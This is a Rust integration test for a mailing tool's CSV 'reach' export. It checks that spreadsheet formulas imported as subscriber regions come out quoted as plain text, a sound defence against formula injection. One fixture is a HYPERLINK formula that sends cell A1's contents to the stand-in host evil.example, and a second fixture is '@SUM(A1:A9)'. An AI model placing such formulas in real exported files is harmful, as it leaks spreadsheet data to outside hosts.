//! A formula typed where a region goes must reach a spreadsheet as text:
//! `willay reach --format csv` through the real binary.

use std::path::Path;
use std::process::{Command, Output};

use crate::helpers::{Backend, TestDb, shipped_locales};

fn willay(dir: &Path, db: &TestDb, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_willay"))
        .current_dir(dir)
        .env("DATABASE_URL", &db.url)
        .env("WILLAY_LOCALES", shipped_locales())
        .env("WILLAY_OUTBOX", dir.join("outbox"))
        .env_remove("WILLAY_SMTP_URL")
        .env("WILLAY_LOG", "error")
        .args(args)
        .output()
        .expect("the willay binary runs")
}

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Ver detalle")"#;

#[tokio::test]
async fn a_formula_region_comes_out_of_reach_csv_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let db = TestDb::create(Backend::Sqlite, dir.path()).await;
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record(["email", "name", "language", "region"])
        .unwrap();
    csv.write_record(["rosa@example.org", "Rosa", "es", FORMULA])
        .unwrap();
    csv.write_record(["ana@example.org", "Ana", "es", "@SUM(A1:A9)"])
        .unwrap();
    csv.write_record(["luz@example.org", "Luz", "es", "Lima"])
        .unwrap();
    std::fs::write(dir.path().join("p.csv"), csv.into_inner().unwrap()).unwrap();
    for args in [
        &["lists", "create", "peru"][..],
        &["subscribers", "import", "p.csv", "--list", "peru"],
        &[
            "campaigns",
            "create",
            "--message",
            "survivor-rights",
            "--list",
            "peru",
            "--at",
            "2020-01-01T00:00:00Z",
        ],
        &["worker", "--until-idle"],
    ] {
        let output = willay(dir.path(), &db, args);
        assert!(output.status.success(), "{args:?}: {output:?}");
    }

    let output = willay(dir.path(), &db, &["reach", "--format", "csv"]);
    assert!(output.status.success(), "{output:?}");
    let mut reader = csv::Reader::from_reader(&output.stdout[..]);
    let regions: Vec<String> = reader
        .records()
        .map(|r| r.unwrap())
        .filter(|r| &r[0] == "region")
        .map(|r| r[1].to_owned())
        .collect();
    assert_eq!(regions.len(), 3, "{regions:?}");
    assert!(
        regions.contains(&format!("'{FORMULA}")),
        "the formula is quoted: {regions:?}"
    );
    assert!(regions.contains(&"'@SUM(A1:A9)".to_owned()), "{regions:?}");
    assert!(regions.contains(&"Lima".to_owned()), "{regions:?}");
    // No cell at all starts a formula.
    let text = String::from_utf8(output.stdout).unwrap();
    for cell in csv::Reader::from_reader(text.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
    {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r'])
                && (!cell.starts_with('-') || cell.parse::<i64>().is_ok()),
            "{cell:?} in {text}"
        );
    }
}
